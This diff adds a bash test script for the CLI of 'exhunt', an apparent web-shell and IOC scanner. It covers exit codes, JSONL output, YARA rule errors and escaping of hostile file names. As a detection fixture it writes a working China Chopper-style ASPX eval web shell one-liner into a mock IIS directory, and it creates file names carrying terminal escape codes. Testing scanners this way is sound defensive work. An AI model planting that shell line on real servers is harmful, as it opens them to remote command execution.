@@ -1,0 +1,162 @@
+#!/usr/bin/env bash
+# cli_tests.sh - the exhunt command as a user meets it: help, output formats,
+# escaping, refusals and exit codes. Usage: cli_tests.sh EXHUNT SRC_DIR SHARED_DIR
+set -u
+EXHUNT=$1
+SRC=$2
+SHARED=$3
+TMP=$(mktemp -d /tmp/exhunt-cli-XXXXXX)
+trap 'chmod -R u+rwx "$TMP" 2>/dev/null; rm -rf "$TMP"' EXIT
+pass=0
+fail=0
+
+ok() { pass=$((pass + 1)); }
+bad() { fail=$((fail + 1)); echo "FAIL: $*"; }
+# expect_rc WANT DESCRIPTION -- command...
+expect_rc() {
+  local want=$1 what=$2
+  shift 3
+  "$@" >"$TMP/out" 2>"$TMP/err"
+  local rc=$?
+  if [ "$rc" = "$want" ]; then ok; else bad "$what: exit $rc, want $want"; sed 's/^/  | /' "$TMP/err" | head -5; fi
+}
+# Every line of a file is one JSON object with the schema id.
+check_jsonl() {
+  python3 - "$1" <<'PY'
+import json, sys
+lines = open(sys.argv[1], encoding="utf-8").read().splitlines()
+assert lines, "no output"
+for ln in lines:
+    o = json.loads(ln)
+    assert o["schema"] == "exhunt/1", ln
+    assert o["type"] in ("finding", "note", "error", "summary"), ln
+    if o["type"] == "finding":
+        for k in ("category", "severity", "rule", "title", "path", "sha256", "size", "mtime", "matches"):
+            assert k in o, (k, ln)
+        assert o["severity"] in ("critical", "high", "medium", "low", "info")
+        assert o["mtime"].endswith("Z")
+    if o["type"] in ("note", "error"):
+        assert "what" in o and "reason" in o, ln
+last = json.loads(lines[-1])
+assert last["type"] == "summary", "last line is not the summary"
+for k in ("files_seen", "files_scanned", "skipped", "errors", "findings", "bytes_read", "elapsed_seconds"):
+    assert k in last, k
+PY
+}
+
+CHOPPER='<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'
+
+# --- help and version ------------------------------------------------------
+expect_rc 0 "--version" -- "$EXHUNT" --version
+grep -q '^exhunt [0-9]' "$TMP/out" && ok || bad "--version prints the version"
+expect_rc 0 "--help" -- "$EXHUNT" --help
+grep -q 'scan' "$TMP/out" && ok || bad "--help lists scan"
+expect_rc 0 "help scan" -- "$EXHUNT" help scan
+grep -q -- '--max-filesize' "$TMP/out" && ok || bad "help scan shows options"
+expect_rc 0 "scan --help" -- "$EXHUNT" scan --help
+expect_rc 2 "help of unknown command" -- "$EXHUNT" help nope
+expect_rc 2 "unknown command" -- "$EXHUNT" nope
+expect_rc 2 "no arguments" -- "$EXHUNT"
+expect_rc 2 "scan without PATH" -- "$EXHUNT" scan
+expect_rc 2 "bad option" -- "$EXHUNT" scan --bogus "$TMP"
+expect_rc 2 "bad --threads" -- "$EXHUNT" scan --threads 0 "$TMP"
+expect_rc 2 "bad --format" -- "$EXHUNT" scan --format xml "$TMP"
+expect_rc 2 "bad --newer-than" -- "$EXHUNT" scan --newer-than yesterday "$TMP"
+
+# --- clean and dirty trees -------------------------------------------------
+mkdir -p "$TMP/clean/site" "$TMP/dirty/inetpub/wwwroot/aspnet_client/system_web"
+printf '<%%@ Page Language="C#" %%>\n<html><body>Hello</body></html>\n' >"$TMP/clean/site/index.aspx"
+printf 'body { color: red }\n' >"$TMP/clean/site/site.css"
+cp "$TMP/clean/site/index.aspx" "$TMP/dirty/"
+printf '%s' "$CHOPPER" >"$TMP/dirty/inetpub/wwwroot/aspnet_client/system_web/x.aspx"
+
+expect_rc 0 "clean tree exits 0" -- "$EXHUNT" scan --no-progress "$TMP/clean"
+grep -q 'nothing found' "$TMP/out" && ok || bad "clean tree: summary says nothing found"
+expect_rc 1 "dirty tree exits 1" -- "$EXHUNT" scan "$TMP/dirty"
+grep -q 'x.aspx' "$TMP/out" && ok || bad "dirty tree: the shell is named"
+grep -q 'signature-base' "$TMP/out" && ok || bad "text output names the rule source"
+
+expect_rc 1 "jsonl" -- "$EXHUNT" scan --format jsonl "$TMP/dirty"
+if check_jsonl "$TMP/out"; then ok; else bad "jsonl is well-formed"; fi
+grep -q '"license":"Detection Rule License 1.1' "$TMP/out" && ok || bad "DRL licence shown in matches"
+
+# -o writes the same lines to a file; refusing to write inside evidence
+expect_rc 1 "-o FILE" -- "$EXHUNT" scan -f jsonl -o "$TMP/report.jsonl" "$TMP/dirty"
+[ -s "$TMP/report.jsonl" ] && [ ! -s "$TMP/out" ] && ok || bad "-o writes to the file only"
+expect_rc 2 "-o inside a scanned root is refused" -- "$EXHUNT" scan -o "$TMP/dirty/report.txt" "$TMP/dirty"
+[ ! -e "$TMP/dirty/report.txt" ] && ok || bad "nothing written under the scanned root"
+
+
+# --- rules ------------------------------------------------------------------
+printf 'rule ok_rule { strings: $a = "Hello" condition: $a }\n' >"$TMP/good.yar"
+printf 'rule broken {\n condition: and\n}\n' >"$TMP/broken.yar"
+# --min-severity filters what is reported, and the exit code follows it
+expect_rc 1 "user rule hit (high by default)" -- "$EXHUNT" scan --no-default-rules --rules "$TMP/good.yar" "$TMP/clean"
+expect_rc 0 "--min-severity above every finding" -- "$EXHUNT" scan --no-default-rules \
+  --rules "$TMP/good.yar" --min-severity critical "$TMP/clean"
+mkdir -p "$TMP/rules"
+cp "$TMP/good.yar" "$TMP/broken.yar" "$TMP/rules/"
+expect_rc 1 "user rule folder with one broken file still scans" -- "$EXHUNT" scan --rules "$TMP/rules" "$TMP/clean"
+grep -q 'broken.yar' "$TMP/err" && grep -q 'line 2' "$TMP/err" && ok || bad "broken rule reported by name and line"
+grep -q 'ok_rule' "$TMP/out" && ok || bad "the good rule in the same folder ran"
+expect_rc 2 "broken rule and no findings exits 2" -- "$EXHUNT" scan --no-default-rules --rules "$TMP/broken.yar" "$TMP/clean"
+expect_rc 2 "missing rule file" -- "$EXHUNT" scan --rules "$TMP/nope.yar" "$TMP/clean"
+grep -q 'nope.yar' "$TMP/err" && ok || bad "missing rule file named"
+expect_rc 1 "jsonl carries rule errors" -- "$EXHUNT" scan -f jsonl --rules "$TMP/broken.yar" "$TMP/dirty"
+grep -q '"type":"error","what":"rule-compile"' "$TMP/out" && ok || bad "rule-compile error line in jsonl"
+# the public rule sets that need external variables load unchanged
+if [ -d "$SHARED/research-data/yara/signature-base" ]; then
+  expect_rc 0 "ext-var rule sets load" -- "$EXHUNT" scan --no-default-rules \
+    --rules "$SHARED/research-data/yara/signature-base/gen_webshells_ext_vars.yar" \
+    --rules "$SHARED/research-data/yara/signature-base/generic_anomalies.yar" "$TMP/clean"
+fi
+printf 'sha256\t%s\tcritical\tTest hash\ttest\t-\n' "$(sha256sum "$TMP/clean/site/site.css" | cut -d' ' -f1)" >"$TMP/iocs.tsv"
+expect_rc 1 "--iocs hash list" -- "$EXHUNT" scan -f jsonl --iocs "$TMP/iocs.tsv" "$TMP/clean"
+grep -q '"category":"ioc-hash"' "$TMP/out" && ok || bad "hash IOC reported"
+
+# --- hostile names ------------------------------------------------------------
+mkdir -p "$TMP/names"
+printf '%s' "$CHOPPER" >"$TMP/names/$(printf 'esc\033[31mred\033[0m.aspx')"
+printf '%s' "$CHOPPER" >"$TMP/names/$(printf 'new\nline.aspx')"
+printf '%s' "$CHOPPER" >"$TMP/names/$(printf 'bad\377.aspx')"
+expect_rc 1 "hostile names: text" -- "$EXHUNT" scan "$TMP/names"
+if grep -q $'\033' "$TMP/out"; then bad "raw ESC in text output"; else ok; fi
+grep -q 'esc\\x1b\[31mred' "$TMP/out" && ok || bad "ESC shown escaped"
+grep -q 'new\\x0aline.aspx' "$TMP/out" && ok || bad "newline shown escaped"
+expect_rc 1 "hostile names: jsonl" -- "$EXHUNT" scan -f jsonl "$TMP/names"
+if check_jsonl "$TMP/out"; then ok; else bad "jsonl well-formed with hostile names"; fi
+grep -q '"path_b64"' "$TMP/out" && ok || bad "invalid UTF-8 path carries path_b64"
+
+# --- colour and progress on a terminal ----------------------------------------
+if command -v script >/dev/null; then
+  script -qec "$EXHUNT scan $TMP/dirty" /dev/null >"$TMP/tty" 2>&1
+  grep -q $'\033\[' "$TMP/tty" && ok || bad "colour on a terminal"
+  NO_COLOR=1 script -qec "$EXHUNT scan --no-progress $TMP/dirty" /dev/null >"$TMP/tty" 2>&1
+  if grep -q $'\033\[' "$TMP/tty"; then bad "NO_COLOR honoured"; else ok; fi
+fi
+"$EXHUNT" scan "$TMP/dirty" >/dev/null 2>"$TMP/err"
+[ ! -s "$TMP/err" ] && ok || bad "no progress or noise on a non-terminal stderr"
+
+# --- unreadable file: errors without findings exit 2 --------------------------
+mkdir -p "$TMP/locked"
+printf 'plain\n' >"$TMP/locked/a.txt"
+printf 'plain\n' >"$TMP/locked/b.txt"
+chmod 0 "$TMP/locked/b.txt"
+chmod 755 "$TMP" "$TMP/locked"
+if [ "$(id -u)" = 0 ]; then
+  RUN_AS=(setpriv --reuid=65534 --regid=65534 --clear-groups)
+else
+  RUN_AS=()
+fi
+expect_rc 2 "unreadable file and no findings exits 2" -- "${RUN_AS[@]}" "$EXHUNT" scan "$TMP/locked"
+grep -q 'b.txt' "$TMP/err" && grep -qi 'permission denied' "$TMP/err" && ok || bad "unreadable file reported with reason"
+
+# --- the bundled example evidence -------------------------------------------
+if [ -d "$SRC/examples/compromised-exchange" ]; then
+  expect_rc 1 "example compromised server" -- "$EXHUNT" scan -f jsonl "$SRC/examples/compromised-exchange"
+  check_jsonl "$TMP/out" && ok || bad "example jsonl well-formed"
+  expect_rc 0 "example clean server" -- "$EXHUNT" scan "$SRC/examples/clean-exchange"
+fi
+
+echo "$pass passed, $fail failed"
+[ "$fail" = 0 ]
